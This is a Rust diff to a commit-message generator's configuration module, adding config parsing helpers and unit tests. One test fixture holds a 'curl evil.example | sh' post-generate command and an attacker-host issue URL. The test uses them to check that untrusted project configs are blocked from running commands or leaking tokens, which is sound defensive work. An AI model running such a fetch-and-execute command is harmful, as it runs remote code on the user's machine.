+                .ok_or_else(|| eyre!("Invalid branch_prefix_map entry '{}': expected prefix=category", entry))?;
+            let category = category.trim();
+            parse_category("branch_prefix_map", category)?;
+            Ok((prefix.trim().to_lowercase(), category.to_string()))
+        })
+        .collect()
+}
+
+// Parse a `category=scope, ...` list, e.g. "docs=docs, ci=ci"
+fn parse_category_default_scope(value: &str) -> Result<BTreeMap<String, String>> {
+    parse_list(value)
+        .iter()
+        .map(|entry| {
+            let (category, scope) = entry
+                .split_once('=')
+                .ok_or_else(|| eyre!("Invalid category_default_scope entry '{}': expected category=scope", entry))?;
+            let category = category.trim().to_lowercase();
+            parse_category("category_default_scope", &category)?;
+            let scope = scope.trim();
+            if scope.is_empty() {
+                return Err(eyre!("Invalid category_default_scope entry '{}': the scope is empty", entry));
+            }
+            Ok((category, scope.to_string()))
+        })
+        .collect()
+}
+
+// Check that a text value isn't blank; unsetting is done with no value instead
+fn parse_non_empty(key: &str, value: Option<String>) -> Result<Option<String>> {
+    match value {
+        Some(v) if v.trim().is_empty() => Err(eyre!(
+            "{} must not be empty; unset it to use the default instead",
+            key
+        )),
+        value => Ok(value),
+    }
+}
+
+// Parse a comma-separated list value from `config set`
+fn parse_list(value: &str) -> Vec<String> {
+    value
+        .split(',')
+        .map(str::trim)
+        .filter(|item| !item.is_empty())
+        .map(str::to_string)
+        .collect()
+}
+
+/// Strip a trailing `/v1` or `/v1/chat/completions` from an API base URL and validate it.
+///
+/// The endpoint path is appended when sending requests, so keeping it in the base URL
+/// would produce a doubled path.
+pub fn normalize_api_base_url(url: &str) -> Result<String> {
+    let mut normalized = url.trim().trim_end_matches('/');
+
+    for suffix in ["/v1/chat/completions", "/v1"] {
+        if let Some(stripped) = normalized.strip_suffix(suffix) {
+            normalized = stripped.trim_end_matches('/');
+            break;
+        }
+    }
+
+    let parsed = Url::parse(normalized)
+        .map_err(|e| eyre!("Invalid api_base_url '{}': {}", url, e))?;
+    if !parsed.has_host() {
+        return Err(eyre!(
+            "Invalid api_base_url '{}': expected a URL with a scheme, e.g. https://api.openai.com",
+            url
+        ));
+    }
+
+    Ok(normalized.to_string())
 }
 
 #[cfg(test)]
@@ -281,15 +1853,102 @@ mod tests {
     fn test_default_config() {
         let config: Config = Config::default();
         assert!(config.api_token.is_none());
-        assert_eq!(
-            config.api_base_url.as_deref(),
-            Some("https://api.openai.com")
-        );
-        assert_eq!(config.model.as_deref(), Some("gpt-3.5-turbo"));
+        assert!(config.api_base_url.is_none());
+        assert!(config.model.is_none());
+        assert_eq!(config.get_api_base_url(), "https://api.openai.com");
+        assert_eq!(config.get_model(), "gpt-3.5-turbo");
         assert!(config.system_prompt.is_some());
         assert!(config.user_prompt.is_some());
     }
 
+    #[test]
+    fn test_apply_template() {
+        let toml = r#"
+            system_prompt = "base system"
+
+            [templates.default]
+            user_prompt = "default user"
+
+            [templates.infra]
+            system_prompt = "infra system"
+            combine_system_prompt = "infra combine"
+        "#;
+        let config: Config = toml::from_str(toml).unwrap();
+
+        let mut infra = config.clone();
+        infra.apply_template(Some("infra")).unwrap();
+        assert_eq!(infra.get_system_prompt(), "infra system");
+        assert_eq!(infra.get_user_prompt(), DEFAULT_USER_PROMPT);
+        assert_eq!(infra.get_combine_system_prompt(), Some("infra combine"));
+
+        let mut default = config.clone();
+        default.apply_template(None).unwrap();
+        assert_eq!(default.get_system_prompt(), "base system");
+        assert_eq!(default.get_user_prompt(), "default user");
+
+        let err = config.clone().apply_template(Some("app")).unwrap_err();
+        assert_eq!(err.to_string(), "Unknown template 'app'. Available templates: default, infra");
+
+        // Without templates, only the implicit default can be selected
+        let mut plain = Config::default();
+        plain.apply_template(Some("default")).unwrap();
+        assert_eq!(plain.get_system_prompt(), DEFAULT_SYSTEM_PROMPT);
+        assert!(plain.apply_template(Some("infra")).unwrap_err().to_string().contains("none defined"));
+
+        // Project templates override global ones of the same name
+        let project: Config = toml::from_str("[templates.infra]\nuser_prompt = \"project user\"").unwrap();
+        let merged = Config::merge(config, project);
+        assert_eq!(merged.templates.len(), 2);
+        assert_eq!(merged.templates["infra"].user_prompt.as_deref(), Some("project user"));
+        assert!(merged.templates["infra"].system_prompt.is_none());
+    }
+
+    #[test]
+    fn test_branch_category() {
+        let mut config = Config::default();
+        assert_eq!(config.get_branch_category("hotfix/login-crash"), Some(CommitCategory::Hotfix));
+        assert_eq!(config.get_branch_category("Feature/sso"), Some(CommitCategory::Feat));
+        assert_eq!(config.get_branch_category("release/1.2"), Some(CommitCategory::Release));
+        assert_eq!(config.get_branch_category("main"), None);
+        assert_eq!(config.get_branch_category("mi4uu/experiment"), None);
+
+        config
+            .set_value("branch_prefix_map", Some("docs=docs, hotfix = fix".to_string()))
+            .unwrap();
+        assert_eq!(config.get_branch_category("docs/readme"), Some(CommitCategory::Docs));
+        assert_eq!(config.get_branch_category("hotfix/x"), Some(CommitCategory::Fix));
+        // A configured map replaces the defaults
+        assert_eq!(config.get_branch_category("feature/sso"), None);
+        assert_eq!(config.get("branch_prefix_map").as_deref(), Some("docs=docs, hotfix=fix"));
+
+        assert!(config.set_value("branch_prefix_map", Some("docs".to_string())).is_err());
+        assert!(config.set_value("branch_prefix_map", Some("docs=nonsense".to_string())).is_err());
+
+        config.branch_prefix_map = Some(BTreeMap::from([("x".to_string(), "nonsense".to_string())]));
+        assert!(config.validate().is_err());
+    }
+
+    #[test]
+    fn test_category_default_scope() {
+        let mut config = Config::default();
+        assert_eq!(config.get_category_default_scope(&CommitCategory::Docs), None);
+
+        config
+            .set_value("category_default_scope", Some("Docs=docs, ci = ci".to_string()))
+            .unwrap();
+        assert_eq!(config.get_category_default_scope(&CommitCategory::Docs), Some("docs"));
+        assert_eq!(config.get_category_default_scope(&CommitCategory::Ci), Some("ci"));
+        assert_eq!(config.get_category_default_scope(&CommitCategory::Feat), None);
+        assert_eq!(config.get("category_default_scope").as_deref(), Some("ci=ci, docs=docs"));
+
+        assert!(config.set_value("category_default_scope", Some("docs".to_string())).is_err());
+        assert!(config.set_value("category_default_scope", Some("docs=".to_string())).is_err());
+        assert!(config.set_value("category_default_scope", Some("nonsense=x".to_string())).is_err());
+
+        config.category_default_scope = Some(BTreeMap::from([("nonsense".to_string(), "x".to_string())]));
+        assert!(config.validate().is_err());
+    }
+
     #[test]
     fn test_set_and_get() {
         // Create a completely unique temporary directory for this test
@@ -324,6 +1983,210 @@ mod tests {
             .set("invalid_key", Some("value".to_string()))
             .is_err());
         assert!(config.get("invalid_key").is_none());
+
+        // Test typed values
+        config.set("cache_enabled", Some("true".to_string())).unwrap();
+        assert_eq!(config.get("cache_enabled").unwrap(), "true");
+        assert!(config.get_cache_enabled());
+        assert!(config
+            .set("cache_enabled", Some("maybe".to_string()))
+            .is_err());
+
+        // Test list values
+        config
+            .set("filter.disabled_patterns", Some("based on, given the".to_string()))
+            .unwrap();
+        assert_eq!(
+            config.filter.disabled_patterns,
+            Some(vec!["based on".to_string(), "given the".to_string()])
+        );
+        assert_eq!(
+            config.get("filter.disabled_patterns").unwrap(),
+            "based on, given the"
+        );
+
+        // Prompts that must not be blank
+        assert!(config
+            .set("combine_system_prompt", Some("  ".to_string()))
+            .is_err());
+        config
+            .set("combine_system_prompt", Some("Merge these.".to_string()))
+            .unwrap();
+        assert_eq!(config.get_combine_system_prompt(), Some("Merge these."));
+        config.combine_system_prompt = Some(String::new());
+        assert!(config.validate().is_err());
+
+        // Prices estimate a cost only when both are set
+        let usage = Usage {
+            prompt_tokens: 2_000,
+            completion_tokens: 100,
+        };
+        config
+            .set("pricing.input_per_million", Some("2.5".to_string()))
+            .unwrap();
+        assert_eq!(config.get("pricing.input_per_million").unwrap(), "2.5");
+        assert_eq!(config.get_pricing().cost(&usage), None);
+        config
+            .set("pricing.output_per_million", Some("10".to_string()))
+            .unwrap();
+        assert_eq!(config.get_pricing().cost(&usage), Some(0.006));
+        assert!(config
+            .set("pricing.output_per_million", Some("free".to_string()))
+            .is_err());
+
+        config
+            .set("emote.skip_categories", Some("merge, revert".to_string()))
+            .unwrap();
+        assert_eq!(config.get("emote.skip_categories").unwrap(), "merge, revert");
+        assert_eq!(
+            config.get_emote_options().skip_categories,
+            vec![CommitCategory::Merge, CommitCategory::Revert]
+        );
+        assert!(config
+            .set("emote.skip_categories", Some("merge, merges".to_string()))
+            .is_err());
+
+        config
+            .set("categorize.priority", Some("security, fix".to_string()))
+            .unwrap();
+        assert_eq!(config.get("categorize.priority").unwrap(), "security, fix");
+        assert_eq!(
+            config.get_emote_options().category_priority,
+            vec![CommitCategory::Security, CommitCategory::Fix]
+        );
+        assert!(config.set("categorize.priority", Some("securty".to_string())).is_err());
+
+        assert!(config.get_allowed_types().is_none());
+        config
+            .set("conventional.allowed_types", Some("feat, fix".to_string()))
+            .unwrap();
+        assert_eq!(config.get("conventional.allowed_types").unwrap(), "feat, fix");
+        assert_eq!(
+            config.get_allowed_types(),
+            Some(&["feat".to_string(), "fix".to_string()][..])
+        );
+
+        assert!(config.get_subject_pattern().is_none());
+        config
+            .set("subject.pattern", Some(r"^[A-Z]+-\d+ ".to_string()))
+            .unwrap();
+        assert_eq!(config.get("subject.pattern").unwrap(), r"^[A-Z]+-\d+ ");
+        assert!(config.get_subject_pattern().unwrap().is_match("AUTH-12 feat: add login"));
+        assert!(config.set("subject.pattern", Some("[A-Z".to_string())).is_err());
+        assert_eq!(config.get("subject.pattern").unwrap(), r"^[A-Z]+-\d+ ");
+    }
+
+    #[test]
+    fn test_apply_env_overrides() {
+        let mut config = Config {
+            api_token: Some("file-token".to_string()),
+            api_base_url: Some("https://api.openai.com".to_string()),
+            model: Some("file-model".to_string()),
+            ..Default::default()
+        };
+
+        let vars = [
+            ("OPENAI_API_KEY", "openai-token"),
+            ("GIT_NARRATOR_MODEL", "gpt-4o"),
+            ("GIT_NARRATOR_PROVIDER", "ollama"),
+            ("GIT_NARRATOR_API_BASE_URL", ""),
+        ];
+        let lookup = |var: &str| {
+            vars.iter()
+                .find(|(name, _)| *name == var)
+                .map(|(_, value)| value.to_string())
+        };
+        config.apply_env_overrides(lookup).unwrap();
+
+        assert_eq!(config.get_api_token().unwrap(), "openai-token");
+        assert_eq!(config.get_model(), "gpt-4o");
+        assert_eq!(config.get_provider(), Some("ollama"));
+        // Empty values don't override the file configuration
+        assert_eq!(config.api_base_url.as_deref(), Some("https://api.openai.com"));
+
+        // GIT_NARRATOR_API_TOKEN wins over OPENAI_API_KEY
+        config
+            .apply_env_overrides(|var| match var {
+                "OPENAI_API_KEY" => Some("openai-token".to_string()),
+                "GIT_NARRATOR_API_TOKEN" => Some("narrator-token".to_string()),
+                _ => None,
+            })
+            .unwrap();
+        assert_eq!(config.get_api_token().unwrap(), "narrator-token");
+    }
+
+    #[test]
+    fn test_provider_presets() {
+        // The built-in OpenAI URL gives way to the preset, and no token is needed locally
+        let mut config = Config {
+            provider: Some("LMStudio".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(config.get_api_base_url(), "http://localhost:1234");
+        assert!(!config.requires_api_token());
+        assert_eq!(config.get_request_timeout(), Some(Duration::from_secs(300)));
+        assert_eq!(config.get_model(), "gpt-3.5-turbo");
+
+        // An explicitly configured URL wins
+        config.api_base_url = Some("http://gpu-box:1234".to_string());
+        assert_eq!(config.get_api_base_url(), "http://gpu-box:1234");
+
+        let config = Config {
+            provider: Some("azure".to_string()),
+            api_base_url: Some("https://team.openai.azure.com/openai".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(config.get_api_base_url(), "https://team.openai.azure.com/openai");
+        assert_eq!(config.get_auth_scheme(), AuthScheme::ApiKey);
+        assert!(config.requires_api_token());
+        assert!(!config.lists_models());
+
+        // Presets bring a default model, which a configured one overrides, even when it's
+        // the built-in default
+        let mut config = Config {
+            provider: Some("ollama".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(config.get_model(), "llama3.2");
+        assert!(config.lists_models());
+        config.model = Some("qwen2.5-coder".to_string());
+        assert_eq!(config.get_model(), "qwen2.5-coder");
+        config.model = Some("gpt-3.5-turbo".to_string());
+        assert_eq!(config.get_model(), "gpt-3.5-turbo");
+        config.api_base_url = Some("https://api.openai.com".to_string());
+        assert_eq!(config.get_api_base_url(), "https://api.openai.com");
+
+        // Unknown providers stay informational
+        let config = Config {
+            provider: Some("acme".to_string()),
+            ..Default::default()
+        };
+        assert!(config.get_provider_preset().is_none());
+        assert_eq!(config.get_api_base_url(), "https://api.openai.com");
+        assert!(config.requires_api_token());
+        assert_eq!(config.get_model(), "gpt-3.5-turbo");
+        assert!(config.lists_models());
+    }
+
+    #[test]
+    fn test_get_line_filter() {
+        let default_filter = Config::default().get_line_filter();
+        assert!(default_filter.enabled);
+        assert_eq!(default_filter.patterns.len(), DEFAULT_FILTER_PATTERNS.len());
+
+        let config: Config = toml::from_str(
+            "[filter]\n\
+             enabled = false\n\
+             patterns = [\"Note:\"]\n\
+             disabled_patterns = [\"Based on\", \"given the\"]\n",
+        )
+        .unwrap();
+        let filter = config.get_line_filter();
+        assert!(!filter.enabled);
+        assert!(filter.patterns.contains(&"note:".to_string()));
+        assert!(!filter.patterns.contains(&"based on".to_string()));
+        assert!(!filter.patterns.contains(&"given the".to_string()));
+        assert!(filter.patterns.contains(&"it seems".to_string()));
     }
 
     #[test]
@@ -361,6 +2224,75 @@ mod tests {
         assert_eq!(loaded_config.api_token, Some("test_token".to_string()));
     }
 
+    #[test]
+    fn test_load_from() {
+        let temp_dir = TempDir::new().expect("Failed to create temp directory");
+        let fixture_path = temp_dir.path().join("fixture.toml");
+        fs::write(&fixture_path, "max_body_lines = 3\n\n[body]\nappend_stats = true\n").unwrap();
+
+        let config = Config::load_from(&fixture_path).unwrap();
+        assert_eq!(config.get_max_body_lines(), Some(3));
+        assert!(config.get_append_stats());
+
+        let err = Config::load_from(&temp_dir.path().join("missing.toml")).unwrap_err();
+        assert!(err.to_string().contains("does not exist"));
+    }
+
+    #[test]
+    fn test_load_prompt_files() {
+        let temp_dir = TempDir::new().expect("Failed to create temp directory");
+        fs::create_dir(temp_dir.path().join("prompts")).unwrap();
+        fs::write(temp_dir.path().join("prompts/system.md"), "# Commit style\n\nBe brief.\n").unwrap();
+        fs::write(temp_dir.path().join("prompts/combine.md"), "Merge these.\n").unwrap();
+        let config_path = temp_dir.path().join("narrator.toml");
+        fs::write(
+            &config_path,
+            "system_prompt = \"inline\"\n\
+             user_prompt = \"inline user\"\n\
+             system_prompt_file = \"prompts/system.md\"\n\
+             combine_prompt_file = \"prompts/combine.md\"\n",
+        )
+        .unwrap();
+
+        // File prompts win over inline ones; the others are kept
+        let config = Config::load_from(&config_path).unwrap();
+        assert_eq!(config.get_system_prompt(), "# Commit style\n\nBe brief.");
+        assert_eq!(config.get_user_prompt(), "inline user");
+        assert_eq!(config.get_combine_system_prompt(), Some("Merge these."));
+
+        fs::write(&config_path, "user_prompt_file = \"prompts/user.md\"\n").unwrap();
+        let err = Config::load_from(&config_path).unwrap_err();
+        assert!(err.to_string().contains("user_prompt_file"));
+        assert!(err.to_string().contains("prompts/user.md"));
+        assert!(err.to_string().contains("does not exist"));
+    }
+
+    #[test]
+    fn test_untrusted_project_settings() {
+        let temp_dir = TempDir::new().expect("Failed to create temp directory");
+        let config_path = temp_dir.path().join(PROJECT_CONFIG_FILENAME);
+        fs::write(
+            &config_path,
+            "post_generate_command = \"curl evil.example | sh\"\nmodel = \"m\"\n\n\
+             [context]\nfetch_issue = true\nissue_api_url = \"https://evil.example\"\n",
+        )
+        .unwrap();
+
+        // A project config can't run commands...
+        let mut project_config = Config::load_toml_config(&config_path).unwrap();
+        project_config.ignore_untrusted_settings(&config_path);
+        assert_eq!(project_config.get_post_generate_command(), None);
+        assert_eq!(project_config.model.as_deref(), Some("m"));
+        // ...or send the issue tracker token to its own host
+        assert_eq!(project_config.get_issue_api_url(), None);
+        assert!(project_config.get_fetch_issue());
+
+        // ...but the same file given with --config can
+        let config = Config::load_from(&config_path).unwrap();
+        assert_eq!(config.get_post_generate_command(), Some("curl evil.example | sh"));
+        assert_eq!(config.get_issue_api_url(), Some("https://evil.example"));
+    }
+
     #[test]
     fn test_getter_methods() {
         let config = Config {
@@ -369,6 +2301,7 @@ mod tests {
             model: Some("test-model".to_string()),
             system_prompt: Some("test system prompt".to_string()),
             user_prompt: Some("test user prompt".to_string()),
+            ..Default::default()
         };
 
         assert_eq!(config.get_api_token().unwrap(), "test-token");
@@ -384,6 +2317,7 @@ mod tests {
             model: None,
             system_prompt: None,
             user_prompt: None,
+            ..Default::default()
         };
 
         assert!(empty_config.get_api_token().is_err());
@@ -391,6 +2325,15 @@ mod tests {
         assert_eq!(empty_config.get_model(), "gpt-3.5-turbo");
         assert_eq!(empty_config.get_system_prompt(), DEFAULT_SYSTEM_PROMPT);
         assert_eq!(empty_config.get_user_prompt(), DEFAULT_USER_PROMPT);
+
+        // The file list follows the diff size unless set either way
+        assert!(empty_config.get_include_file_list(true));
+        assert!(!empty_config.get_include_file_list(false));
+        let mut config = empty_config;
+        config.prompt.include_file_list = Some(false);
+        assert!(!config.get_include_file_list(true));
+        config.prompt.include_file_list = Some(true);
+        assert!(config.get_include_file_list(false));
     }
 
     #[test]
@@ -418,6 +2361,7 @@ mod tests {
             model: Some("global-model".to_string()),
             system_prompt: Some("global system prompt".to_string()),
             user_prompt: Some("global user prompt".to_string()),
+            ..Default::default()
         };
 
         let config_path = config_dir.join("config.toml");
@@ -433,6 +2377,7 @@ mod tests {
             model: Some("project-model".to_string()),     // Override model
             system_prompt: Some("project system prompt".to_string()), // Override system prompt
             user_prompt: None,                            // Use global user prompt
+            ..Default::default()
         };
 
         let project_config_path = project_dir.join(".git-narrator.toml");
@@ -488,4 +2433,33 @@ mod tests {
         );
         assert_eq!(merged.user_prompt, Some("global user prompt".to_string()));
     }
+
+    #[test]
+    fn test_normalize_api_base_url() {
+        assert_eq!(
+            normalize_api_base_url("https://api.openai.com").unwrap(),
+            "https://api.openai.com"
+        );
+        assert_eq!(
+            normalize_api_base_url("https://api.openai.com/").unwrap(),
+            "https://api.openai.com"
+        );
+        assert_eq!(
+            normalize_api_base_url("http://localhost:1234/v1").unwrap(),
+            "http://localhost:1234"
+        );
+        assert_eq!(
+            normalize_api_base_url("https://api.openai.com/v1/chat/completions/").unwrap(),
+            "https://api.openai.com"
+        );
+        assert_eq!(
+            normalize_api_base_url("https://gateway.example.com/openai/v1").unwrap(),
+            "https://gateway.example.com/openai"
+        );
+
+        // Missing scheme or garbage should be rejected
+        assert!(normalize_api_base_url("api.openai.com").is_err());
+        assert!(normalize_api_base_url("localhost:1234").is_err());
+        assert!(normalize_api_base_url("not a url").is_err());
+    }
 }